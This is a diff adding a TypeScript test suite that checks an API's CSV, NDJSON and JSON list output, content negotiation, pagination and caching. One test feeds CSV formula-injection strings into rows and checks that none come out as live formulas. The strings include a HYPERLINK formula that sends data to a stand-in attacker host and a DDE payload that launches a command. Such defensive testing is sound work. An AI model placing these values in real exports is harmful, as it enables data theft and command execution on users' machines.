@@ -1,0 +1,424 @@
+import { gunzipSync } from "node:zlib";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import type { ListDelta } from "../src/contract/list-delta.js";
+import { rowsIn } from "../src/contract/row-list.js";
+import { rowSchemaOf } from "../src/contract/row-schema.js";
+import type { IdentifiedAnswer } from "../src/http/exchange.js";
+import { HOUR_MS } from "../src/kit/clock.js";
+import { loadServices } from "../src/services/registry.js";
+import type { Earthquake } from "../src/services/seismology/records.js";
+import { newestRecords, publish } from "./support/published.js";
+import { expectRows, linesIn, tableIn } from "./support/row-formats.js";
+import { call, json, type Stack, startStack } from "./support/stack.js";
+
+const { operations } = await loadServices();
+const lists = operations.flatMap(({ path, operation }) =>
+  operation.list === undefined ? [] : [{ path, operation, list: operation.list }],
+);
+const examplesOfLists = lists.flatMap(({ path, operation, list }) =>
+  operation.examples
+    .filter((example) => !("jmespath" in example))
+    .map((example) => ({ target: `${path}?${new URLSearchParams(example)}`, operation, list })),
+);
+
+const EARTHQUAKES = "/api/seismology/v1/list-earthquakes";
+const CO2 = "/api/climate/v1/get-co2-monitoring";
+
+let stack: Stack;
+let key: Readonly<Record<string, string>>;
+beforeAll(async () => {
+  stack = await startStack({ filled: "all" });
+  key = { "x-service-key": stack.service.access.ownerKey.key ?? "" };
+}, 180_000);
+afterAll(() => stack.close());
+
+const get = async (target: string, headers: Readonly<Record<string, string>> = {}): Promise<IdentifiedAnswer> => {
+  const answer = await stack.get(target, { ...key, ...headers });
+  if (answer.status !== 200) throw new Error(`${answer.status} ${answer.body}`);
+  return answer;
+};
+
+/** Adds parameters to a target. */
+const plus = (target: string, more: string): string => `${target}${target.includes("?") ? "&" : "?"}${more}`;
+
+/** The rows of a list with the names of their groups. */
+function plainRows(list: (typeof lists)[number]["list"], answer: unknown): readonly unknown[] {
+  const rows = rowsIn(list, answer);
+  if (!("groups" in list)) return rows;
+  return (rows as { group: string; row: object }[]).map(({ group, row }) => ({ group, ...row }));
+}
+
+describe.each(examplesOfLists)("$target", ({ target, operation, list }) => {
+  test("has the same rows as a table, as lines and in JSON", async () => {
+    const [plain, table, lines] = await Promise.all([
+      get(target),
+      get(plus(target, "format=csv")),
+      get(plus(target, "format=ndjson")),
+    ]);
+    const rows = plainRows(list, json(plain));
+    expect(linesIn(lines)).toEqual(rows);
+    expectRows(tableIn(table), rows);
+    for (const answer of [table, lines]) {
+      expect(answer.headers).toMatchObject({
+        "X-Vigil-State": plain.headers["X-Vigil-State"],
+        "X-Vigil-Generation": plain.headers["X-Vigil-Generation"],
+        "X-Vigil-Rows": expect.stringMatching(`^count=${rows.length}(, total=\\d+)?$`),
+      });
+      expect(answer.headers["Last-Modified"]).toBe(plain.headers["Last-Modified"]);
+    }
+    expect(new Set([plain, table, lines].map(({ headers }) => headers["ETag"])).size).toBe(3);
+    expect(table.headers["Content-Disposition"]).toBe(`inline; filename="${operation.rpc}.csv"`);
+  });
+});
+
+test("no row has a member of the name of what formats of rows add", () => {
+  for (const { operation, list } of lists) {
+    const { properties } = rowSchemaOf(operation, list) as unknown as { properties: object };
+    expect(properties).not.toHaveProperty("delta");
+    if ("groups" in list) expect(properties).not.toHaveProperty("group");
+  }
+});
+
+describe("the format of an answer", () => {
+  const contentTypes = {
+    json: "application/json; charset=utf-8",
+    csv: "text/csv; charset=utf-8; header=present",
+    ndjson: "application/x-ndjson",
+  };
+
+  test.each([
+    { accept: undefined, format: "json" },
+    { accept: "*/*", format: "json" },
+    { accept: "application/json", format: "json" },
+    { accept: "text/csv", format: "csv" },
+    { accept: "TEXT/CSV; header=present", format: "csv" },
+    { accept: "application/x-ndjson", format: "ndjson" },
+    { accept: "text/*", format: "csv" },
+    { accept: "application/*", format: "json" },
+    { accept: "text/csv, */*", format: "csv" },
+    { accept: "text/csv, */*;q=0.1", format: "csv" },
+    { accept: "text/csv;q=0.5, application/json", format: "json" },
+    { accept: "text/csv, application/json", format: "json" },
+    { accept: "application/x-ndjson, text/csv;q=0.9, application/json;q=0.1", format: "ndjson" },
+    { accept: "text/csv;q=0, */*;q=0.5", format: "json" },
+    { accept: "application/json;q=0, */*", format: "csv" },
+    { accept: "application/json;q=0", format: "json" },
+    { accept: "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8", format: "json" },
+    { accept: "application/json, text/plain, */*", format: "json" },
+    { accept: "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2", format: "json" },
+    { accept: "application/xml", format: "json" },
+    { accept: "application/problem+json", format: "json" },
+    { accept: "nonsense;;;q=x,,", format: "json" },
+    { accept: `text/csv, ${"a/b, ".repeat(100)}c/d`, format: "csv" },
+  ] as const)("is $format for Accept: $accept", async ({ accept, format }) => {
+    const { headers } = await get(EARTHQUAKES, accept === undefined ? {} : { accept });
+    expect(headers["Content-Type"]).toBe(contentTypes[format]);
+    expect(headers["Vary"]).toBe("Accept, Accept-Encoding, Origin");
+  });
+
+  test("is that of the parameter, whatever Accept prefers", async () => {
+    const typeOf = async (format: string, accept: string) =>
+      (await get(`${EARTHQUAKES}?format=${format}`, { accept })).headers["Content-Type"];
+    expect(await typeOf("json", "text/csv")).toBe(contentTypes.json);
+    expect(await typeOf("csv", "application/json")).toBe(contentTypes.csv);
+    expect(await typeOf("", "text/csv")).toBe(contentTypes.csv);
+  });
+
+  test("is the same answer by Accept and by the parameter", async () => {
+    const [byHeader, byParameter] = [
+      await get(EARTHQUAKES, { accept: "text/csv" }),
+      await get(`${EARTHQUAKES}?format=csv`),
+    ];
+    expect(byHeader.body).toBe(byParameter.body);
+    expect(byHeader.headers["ETag"]).toBe(byParameter.headers["ETag"]);
+  });
+
+  test("does not change what an answer in JSON is", async () => {
+    const [plain, named] = [await get(EARTHQUAKES), await get(`${EARTHQUAKES}?format=json`)];
+    expect(named.body).toBe(plain.body);
+    expect(named.headers).toEqual(plain.headers);
+    expect(plain.headers).not.toHaveProperty("X-Vigil-Rows");
+    expect(plain.headers).not.toHaveProperty("Content-Disposition");
+  });
+
+  test.each([
+    [`${EARTHQUAKES}?format=xml`, 'must be one of json, csv, ndjson, got "xml"'],
+    [`${EARTHQUAKES}?format=csv&format=json`, "must be given once, got 2 values"],
+    [
+      `${EARTHQUAKES}?format=csv&explain=true`,
+      "must be json with explain=true, unless jmespath selects rows from the answer",
+    ],
+    [`${CO2}?format=csv`, "must be json here: the answer is not a list of rows"],
+    ["/api/account/v1/list-keys?format=csv", "must be json here: what belongs to an account is answered as JSON alone"],
+  ])("%s is refused", async (target, description) => {
+    const answer = await stack.get(target, key);
+    expect(answer.status).toBe(400);
+    expect(json(answer)).toEqual({ violations: [{ field: "format", description }] });
+  });
+
+  test("json is accepted everywhere, and Accept of an answer without rows changes nothing", async () => {
+    for (const target of [CO2, "/api/account/v1/list-keys"]) {
+      expect((await get(`${target}?format=json`)).headers["Content-Type"]).toBe(contentTypes.json);
+      expect((await get(target, { accept: "text/csv" })).headers["Content-Type"]).toBe(contentTypes.json);
+    }
+    const explained = await get(`${EARTHQUAKES}?explain=true`, { accept: "text/csv" });
+    expect(explained.headers["Content-Type"]).toBe(contentTypes.json);
+  });
+
+  test("is JSON for a failure", async () => {
+    const answer = await stack.get(`${EARTHQUAKES}?min_magnitude=many`, { ...key, accept: "text/csv" });
+    expect([answer.status, answer.headers["Content-Type"]]).toEqual([400, contentTypes.json]);
+  });
+});
+
+describe("a projection", () => {
+  const project = (expression: string, format: string): string =>
+    `${EARTHQUAKES}?format=${format}&jmespath=${encodeURIComponent(expression)}`;
+
+  test("comes first: its array has the rows", async () => {
+    const expression = "earthquakes[?magnitude>`5`].{id: id, place: place, at: location, mark: nearTestSite}";
+    const rows = json(await get(project(expression, "json"))) as unknown[];
+    expect(rows.length).toBeGreaterThan(1);
+    const [table, lines] = [await get(project(expression, "csv")), await get(project(expression, "ndjson"))];
+    expect(linesIn(lines)).toEqual(rows);
+    expectRows(tableIn(table), rows);
+    expect(tableIn(table).columns).toEqual(["id", "place", "at.latitude", "at.longitude", "mark"]);
+    expect(table.headers["X-Vigil-Rows"]).toBe(`count=${rows.length}`);
+  });
+
+  test("of values has one column, and one of arrays too", async () => {
+    const ids = json(await get(project("earthquakes[].id", "json")));
+    const table = tableIn(await get(project("earthquakes[].id", "csv")));
+    expect(table.columns).toEqual(["value"]);
+    expect(table.rows.map(([id]) => id)).toEqual(ids);
+    const pairs = tableIn(await get(project("earthquakes[:2].[id, magnitude]", "csv")));
+    expect(pairs.rows.map(([pair = ""]) => JSON.parse(pair))).toEqual(
+      json(await get(project("earthquakes[:2].[id, magnitude]", "json"))),
+    );
+    expect(linesIn(await get(project("earthquakes[:2].id", "ndjson")))).toEqual((ids as string[]).slice(0, 2));
+  });
+
+  test("without rows is an empty body", async () => {
+    for (const format of ["csv", "ndjson"]) {
+      const answer = await get(project("earthquakes[?magnitude>`11`]", format));
+      expect([String(answer.body), answer.headers["X-Vigil-Rows"]]).toEqual(["", "count=0"]);
+    }
+  });
+
+  test("may take its rows from the explanation", async () => {
+    const target = plus(project("explain.datasets[].sources[].[source, rows]", "ndjson"), "explain=true");
+    expect(linesIn(await get(target)).length).toBeGreaterThan(0);
+  });
+
+  test.each([
+    ["pagination", "an object"],
+    ["@", "an object"],
+    ["pagination.totalCount", "number"],
+    ["earthquakes[0].id", "string"],
+    ["none", "null"],
+  ])("%s is refused as rows", async (expression, kind) => {
+    for (const format of ["csv", "ndjson"]) {
+      const answer = await stack.get(project(expression, format), key);
+      expect(answer.status).toBe(400);
+      expect(json(answer)).toEqual({
+        _jmespath_error: `not_rows: the result must be an array for ${format}, got ${kind}`,
+        original_keys: ["earthquakes", "pagination"],
+      });
+    }
+  });
+
+  test("whose table is larger than a projection may be is refused", async () => {
+    // Thousands of numbers and an object with a hundred members: small as JSON, and mostly commas as a table.
+    const wide = `pagination.totalCount.{${Array.from({ length: 100 }, (_, at) => `a${at}:@`).join()}}`;
+    const many = `earthquakes[].magnitude.[${Array.from({ length: 60 }, () => "@").join()}][]`;
+    const expression = `[[${wide}],${many}][]`;
+    expect(Buffer.byteLength(String((await get(project(expression, "json"))).body))).toBeLessThan(50_000);
+    const answer = await stack.get(project(expression, "csv"), key);
+    expect(answer.status).toBe(400);
+    expect(json(answer)).toEqual({
+      _jmespath_error: "projection_too_large: more than 262144 bytes of csv",
+      original_keys: ["earthquakes", "pagination"],
+    });
+  });
+
+  test("that fails is refused as in JSON", async () => {
+    const answers = ["json", "csv"].map((format) => stack.get(project("abs(@)", format), key));
+    const [plain, table] = await Promise.all(answers);
+    expect([table?.status, json(table as IdentifiedAnswer)]).toEqual([400, json(plain as IdentifiedAnswer)]);
+  });
+});
+
+describe("a list in pages", () => {
+  /** The address of the next page. */
+  const nextOf = ({ headers }: IdentifiedAnswer): string | undefined =>
+    /^<(\?[^>]+)>; rel="next"/.exec(headers["Link"] ?? "")?.[1];
+
+  test.each(["csv", "ndjson"])("has the rows of all pages by the links of its pages as %s", async (format) => {
+    const all = json(await get(EARTHQUAKES)) as { earthquakes: { id: string }[] };
+    const ids: unknown[] = [];
+    for (let query: string | undefined = `?page_size=20&format=${format}`; query !== undefined; ) {
+      const page: IdentifiedAnswer = await get(EARTHQUAKES + query);
+      const rows = format === "csv" ? tableIn(page).rows.map(([id]) => ({ id })) : linesIn(page);
+      expect(page.headers["X-Vigil-Rows"]).toBe(`count=${rows.length}, total=${all.earthquakes.length}`);
+      ids.push(...(rows as { id: unknown }[]).map(({ id }) => id));
+      query = nextOf(page);
+    }
+    expect(ids).toEqual(all.earthquakes.map(({ id }) => id));
+  });
+
+  test("repeats the caller's query in the link to the next page", async () => {
+    const accept = { accept: "text/csv" };
+    const target = `${EARTHQUAKES}?min_magnitude=4.6&page_size=5&${new URLSearchParams({ jmespath: "earthquakes[].{a: id}", x: 'é>"' })}`;
+    const first = await get(target, accept);
+    const link = nextOf(first) ?? "";
+    expect(link).toMatch(/^[\x21-\x7e]+$/);
+    const cursor = new URLSearchParams(link).get("cursor") ?? "";
+    const second = await get(`${target}&cursor=${cursor}&format=json`);
+    expect(tableIn(await get(EARTHQUAKES + link, accept)).rows).toEqual(
+      (json(second) as { a: string }[]).map(({ a }) => [a]),
+    );
+  });
+
+  test("takes a cursor of another format", async () => {
+    const { pagination } = json(await get(`${EARTHQUAKES}?page_size=10`)) as { pagination: { nextCursor: string } };
+    const page = (format: string) =>
+      get(`${EARTHQUAKES}?page_size=10&cursor=${pagination.nextCursor}&format=${format}`);
+    expectRows(tableIn(await page("csv")), (json(await page("json")) as { earthquakes: unknown[] }).earthquakes);
+  });
+
+  test("has no link after the last page, and none in JSON", async () => {
+    expect(nextOf(await get(`${EARTHQUAKES}?format=csv`))).toBeUndefined();
+    expect(nextOf(await get(`${EARTHQUAKES}?page_size=5`))).toBeUndefined();
+  });
+});
+
+test("an answer in a format of rows is confirmed by its own ETag, and by its time", async () => {
+  const accept = { accept: "text/csv" };
+  const { headers } = await get(EARTHQUAKES, accept);
+  const etag = headers["ETag"] ?? "";
+  const ask = (more: Readonly<Record<string, string>>) => stack.get(EARTHQUAKES, { ...key, ...more });
+  const confirmed = await ask({ ...accept, "if-none-match": etag });
+  expect([confirmed.status, confirmed.body, confirmed.headers["ETag"]]).toEqual([304, undefined, etag]);
+  expect((await ask({ "if-none-match": etag })).status).toBe(200);
+  const plain = (await get(EARTHQUAKES)).headers["ETag"] ?? "";
+  expect((await ask({ ...accept, "if-none-match": plain })).status).toBe(200);
+  expect((await ask({ ...accept, "if-modified-since": headers["Last-Modified"] ?? "" })).status).toBe(304);
+});
+
+test("a signature covers the content type and the number of rows", async () => {
+  const { headers } = await get(`${EARTHQUAKES}?format=csv&signature=1`);
+  expect(headers["Signature-Input"]).toContain('"content-type"');
+  expect(headers["Signature-Input"]).toContain('"x-vigil-rows"');
+});
+
+test("a compressed table is the same table", async () => {
+  const target = `${EARTHQUAKES}?format=csv&min_magnitude=4.5`;
+  const packed = await get(target, { "accept-encoding": "gzip, identity;q=0" });
+  expect(packed.headers["Content-Encoding"]).toBe("gzip");
+  expect(gunzipSync(packed.body as Buffer).toString()).toBe(String((await get(target)).body));
+});
+
+test("an item of a batch is JSON and refuses another format", async () => {
+  const items = [EARTHQUAKES, `${EARTHQUAKES}?format=json`, `${EARTHQUAKES}?format=csv`];
+  const body = JSON.stringify({ operations: items.map((path, at) => ({ id: String(at), path })) });
+  const headers = { ...key, accept: "text/csv", "content-type": "application/json" };
+  const answer = await call(stack.answer, "POST", "/api/batch/v1/execute", headers, { body });
+  const { results } = json(answer) as { results: { status: number; body: unknown }[] };
+  expect(results.map(({ status }) => status)).toEqual([200, 200, 400]);
+  expect(results[2]?.body).toEqual({
+    violations: [{ field: "format", description: "must be json in a batch, whose answer is JSON" }],
+  });
+});
+
+describe("formats of several generations", () => {
+  let own: Stack;
+  let [firstAt, rows] = [0, [] as readonly Earthquake[]];
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1-800",
+    "-0",
+    "\tTAB",
+    "\r\nnext,line",
+    "'=quoted",
+    'a "b", c',
+    "\u2028\u2029",
+    "\uFEFFmark",
+    "日本 🌋",
+    "\u0000\u0007",
+    "null",
+    "",
+    " ",
+    ",",
+    '"',
+    "a;=1",
+    "{}",
+  ];
+  const inOwn = async (more: string, accept = ""): Promise<IdentifiedAnswer> =>
+    own.get(`${EARTHQUAKES}?${more}`, {
+      "x-service-key": own.service.access.ownerKey.key ?? "",
+      ...(accept && { accept }),
+    });
+
+  beforeAll(async () => {
+    own = await startStack({ filled: ["earthquakes"], datasets: ["earthquakes"] });
+    firstAt = own.clock.now();
+    own.clock.advance(HOUR_MS);
+    const { earthquakes } = json(await inOwn("")) as { earthquakes: Earthquake[] };
+    rows = earthquakes.map((row, at) => ({ ...row, place: hostile[at % hostile.length] as string }));
+    const [first = "", ...others] = Object.keys(await newestRecords(own, "earthquakes"));
+    await publish(own, "earthquakes", {
+      [first]: rows.slice(2),
+      ...Object.fromEntries(others.map((name) => [name, []])),
+    });
+  });
+  afterAll(() => own.close());
+
+  test("hostile texts are the same rows in every format, and no cell is a formula", async () => {
+    const { earthquakes } = json(await inOwn("")) as { earthquakes: Earthquake[] };
+    expect(new Set(earthquakes.map(({ place }) => place)).size).toBe(hostile.length);
+    expect(linesIn(await inOwn("format=ndjson"))).toEqual(earthquakes);
+    const table = tableIn(await inOwn("format=csv"));
+    expectRows(table, earthquakes);
+    const cells = table.rows.flat().filter((cell) => cell !== undefined && /^[=+\-@\t\r\n]/.test(cell));
+    expect(cells.filter((cell) => Number.isNaN(Number(cell)))).toEqual([]);
+  });
+
+  test("an answer of the past has the rows that it had in JSON then", async () => {
+    const asOf = `as_of=${firstAt}`;
+    const past = json(await inOwn(asOf)) as { earthquakes: Earthquake[] };
+    const table = await inOwn(`${asOf}&page_size=7`, "text/csv");
+    expectRows(tableIn(table), past.earthquakes.slice(0, 7));
+    expect(table.headers).toMatchObject({ "X-Vigil-Generation": "earthquakes=1" });
+    expect(table.headers["Memento-Datetime"]).toBeDefined();
+    expect(table.headers["Link"]).toMatch(
+      /^<\?as_of=.*>; rel="next", <\/api\/datasets\/history\?name=earthquakes>; rel="timemap"$/,
+    );
+  });
+
+  test("changes are rows with what happened to them", async () => {
+    const { earthquakes, delta } = json(await inOwn("since_generation=1")) as {
+      earthquakes: Earthquake[];
+      delta: ListDelta;
+    };
+    expect(delta.removedCount).toBe(2);
+    const expected = delta.changes.map((change, at) => ({ delta: change, ...earthquakes[at] }));
+    const lines = await inOwn("since_generation=1&format=ndjson");
+    expect(linesIn(lines)).toEqual(expected);
+    expect(lines.headers["X-Vigil-Rows"]).toBe(`count=${expected.length}, total=${expected.length}`);
+    const table = tableIn(await inOwn("since_generation=1&format=csv"));
+    expectRows(table, expected);
+    expect(table.columns.slice(0, 4)).toEqual(["delta.kind", "delta.id", "delta.index", "id"]);
+    expect(tableIn(await inOwn("since_generation=2&format=csv")).columns).toEqual(table.columns);
+  });
+});
+
+test("a list without data has the columns of its schema and no rows", async () => {
+  const empty = await startStack({ datasets: ["earthquakes"] });
+  const headers = { "x-service-key": empty.service.access.ownerKey.key ?? "" };
+  const answer = await empty.get(`${EARTHQUAKES}?format=csv`, headers);
+  const full = tableIn(await get(`${EARTHQUAKES}?format=csv`));
+  expect([answer.status, answer.headers["X-Vigil-State"]]).toEqual([200, "absent"]);
+  expect(tableIn(answer)).toEqual({ columns: full.columns, rows: [] });
+  await empty.close();
+});
